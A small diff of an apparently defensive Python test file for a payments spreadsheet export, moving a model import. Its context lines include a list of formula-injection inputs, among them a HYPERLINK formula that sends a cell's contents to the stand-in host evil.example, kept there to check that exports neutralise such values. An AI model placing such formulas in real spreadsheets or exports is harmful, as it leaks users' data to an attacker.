@@ -10,8 +10,8 @@ from io import BytesIO
 import pytest
 from openpyxl import load_workbook
 
+from jiuye.applications.models import Payment
 from jiuye.payments import export
-from jiuye.payments.models import Payment
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A3)",
              "\t=1+2", "\r=1+2"]
